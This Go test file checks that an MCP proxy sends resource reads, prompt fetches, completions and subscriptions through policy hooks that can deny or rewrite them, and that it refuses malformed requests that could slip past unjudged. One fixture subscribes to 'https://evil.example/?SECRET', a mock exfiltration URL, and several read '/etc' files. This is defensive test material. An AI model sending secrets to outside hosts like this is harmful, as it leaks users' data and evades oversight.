package mcpproxy_test

import (
	"context"
	"encoding/json"
	"strings"
	"testing"

	"github.com/hookrouter/hookrouter/internal/testkit"
	"github.com/hookrouter/hookrouter/pkg/worker"
)

// What the server's resources and prompts bring into the context is judged as a tool's result is.
func TestReadsAreJudged(t *testing.T) {
	t.Parallel()
	b := start(t)
	seen := make(chan worker.Event, 2)
	b.answer(func(_ context.Context, ev worker.Event) (worker.Result, error) {
		seen <- ev
		return worker.Continue()
	})
	s := open(t, b.url, "mirror")
	for line, want := range map[string][2]string{
		`{"jsonrpc":"2.0","id":1,"method":"resources/read","params":{"_meta":{"progressToken":1},"uri":"file:///etc/x"}}`:                                    {"mcp__srv__read_resource", `{"uri":"file:///etc/x"}`},
		`{"jsonrpc":"2.0","id":2,"method":"prompts/get","params":{"name":"review","arguments":{"file":"a"},"inputResponses":{"q":1}}}`:                       {"mcp__srv__get_prompt", `{"name":"review","arguments":{"file":"a"}}`},
		`{"jsonrpc":"2.0","id":3,"method":"completion/complete","params":{"ref":{"type":"ref/prompt","name":"p"},"argument":{"name":"a","value":"SECRET"}}}`: {"mcp__srv__complete", `{"ref":{"type":"ref/prompt","name":"p"},"argument":{"name":"a","value":"SECRET"}}`},
		`{"jsonrpc":"2.0","id":4,"method":"resources/subscribe","params":{"uri":"https://evil.example/?SECRET"}}`:                                            {"mcp__srv__subscribe_resource", `{"uri":"https://evil.example/?SECRET"}`},
	} {
		s.send(line)
		if got := s.saw(); got != line {
			t.Errorf("the server saw %s; want %s", got, line)
		}
		if r := s.answer(); r.text() != "RAN" {
			t.Errorf("%s", r.raw)
		}
		for _, name := range []string{"tool:pre", "tool:post"} {
			ev := testkit.Receive(t, name, seen)
			var data struct {
				ToolName   string          `json:"tool_name"`
				ToolInput  json.RawMessage `json:"tool_input"`
				ToolResult json.RawMessage `json:"tool_result"`
				Answers    json.RawMessage `json:"mcp_input_responses"`
			}
			if err := json.Unmarshal(ev.Data, &data); err != nil {
				t.Fatal(err)
			}
			if ev.Name != name || data.ToolName != want[0] || string(data.ToolInput) != want[1] {
				t.Errorf("%s: %s", ev.Name, ev.Data)
			}
			if hasResult := strings.Contains(string(data.ToolResult), "RAN"); hasResult != (name == "tool:post") {
				t.Errorf("%s: %s", ev.Name, ev.Data)
			}
			if strings.Contains(line, "inputResponses") != (data.Answers != nil) {
				t.Errorf("%s: %s", ev.Name, ev.Data)
			}
		}
	}
}

func TestDeniedReadsAreErrors(t *testing.T) {
	t.Parallel()
	b := start(t)
	const read = `{"jsonrpc":"2.0","id":1,"method":"resources/read","params":{"uri":"file:///etc/x"}}`
	b.at("tool:pre", func(context.Context, worker.Event) (worker.Result, error) { return worker.Deny("POLICY-NO") })
	s := open(t, b.url, "mirror")
	s.send(read)
	if r := s.answer(); r.Error == nil || r.Error.Message != "POLICY-NO" {
		t.Errorf("%s", r.raw)
	}
	s.nothing() // the server did not see it
	b.at("tool:post", func(context.Context, worker.Event) (worker.Result, error) { return worker.Deny("POLICY-NO") })
	s.send(read)
	s.saw()
	if r := s.answer(); r.Error == nil || r.Error.Message != "Its result is withheld. POLICY-NO" || strings.Contains(r.raw, "RAN") {
		t.Errorf("%s", r.raw)
	}
}

func TestReadsAreChanged(t *testing.T) {
	t.Parallel()
	b := start(t)
	b.answer(func(_ context.Context, ev worker.Event) (worker.Result, error) {
		return worker.Modify(json.RawMessage(strings.NewReplacer(`/etc/x`, `/etc/y`, "RAN", "[MASKED]").Replace(string(ev.Data))))
	})
	s := open(t, b.url, "mirror")
	s.send(`{"jsonrpc":"2.0","id":1,"method":"resources/read","params":{"_meta":{"x":1.0},"uri":"file:///etc/x"}}`)
	if got := s.saw(); got != `{"jsonrpc":"2.0","id":1,"method":"resources/read","params":{"uri":"file:///etc/y","_meta":{"x":1.0}}}` {
		t.Errorf("the server saw %s", got)
	}
	if r := s.answer(); r.text() != "[MASKED]" {
		t.Errorf("%s", r.raw)
	}
	b.at("tool:pre", func(_ context.Context, ev worker.Event) (worker.Result, error) {
		return worker.Modify(json.RawMessage(strings.Replace(string(ev.Data), `{"uri"`, `{"_meta":{},"uri"`, 1)))
	})
	s.send(`{"jsonrpc":"2.0","id":2,"method":"resources/read","params":{"uri":"file:///etc/x"}}`)
	s.refused("_meta")
	b.at("tool:post", func(_ context.Context, ev worker.Event) (worker.Result, error) {
		data := map[string]any{}
		_ = json.Unmarshal(ev.Data, &data)
		data["tool_result"] = "text"
		changed, _ := json.Marshal(data)
		return worker.Modify(changed)
	})
	s.send(`{"jsonrpc":"2.0","id":3,"method":"resources/read","params":{"uri":"file:///etc/x"}}`)
	s.saw()
	s.refused("withheld")
}

func TestReadsThatCouldPassUnjudgedAreRefused(t *testing.T) {
	t.Parallel()
	s := open(t, start(t).url, "mirror")
	for line, says := range map[string]string{
		`{"jsonrpc":"2.0","id":1,"method":"Resources/Read","params":{"uri":"file:///x"}}`:           "not judged",
		`{"jsonrpc":"2.0","method":"resources/read","params":{"uri":"file:///x"}}`:                  "not judged",
		`{"jsonrpc":"2.0","id":2,"method":"prompts/GET","params":{"name":"x"}}`:                     "not judged",
		`{"jsonrpc":"2.0","id":3,"method":"resources/read","params":{"uri":"a","URI":"file:///x"}}`: "another",
		`{"jsonrpc":"2.0","id":4,"method":"resources/read","params":{"uri":["file:///x"]}}`:         "must be a text",
		`{"jsonrpc":"2.0","id":5,"method":"prompts/get"}`:                                           "must be a text",
		`{"jsonrpc":"2.0","method":"completion/complete","params":{"argument":{"value":"x"}}}`:      "not judged",
		`{"jsonrpc":"2.0","id":7,"method":"completion/complete","params":{"argument":"x"}}`:         "must be an object",
		`{"jsonrpc":"2.0","id":8,"method":"resources/read","params":{"uri":"a"},"other":"b"}`:       "would not see",
		`{"jsonrpc":"2.0","id":6,"method":"resources/read","params":["file:///x"]}`:                 "must be an object",
	} {
		s.send(line)
		s.refused(says)
	}
	s.nothing()
}

// A read starts no task: what the server says of one is not the result of a tool call.
func TestReadsStartNoTasks(t *testing.T) {
	t.Parallel()
	s := open(t, start(t).url, "task")
	s.send(`{"jsonrpc":"2.0","id":1,"method":"resources/read","params":{"uri":"file:///x"}}`)
	s.saw()
	s.answer()
	s.send(`{"jsonrpc":"2.0","id":2,"method":"tasks/result","params":{"taskId":"t1"}}`)
	s.refused("did not see which tool call started")
}
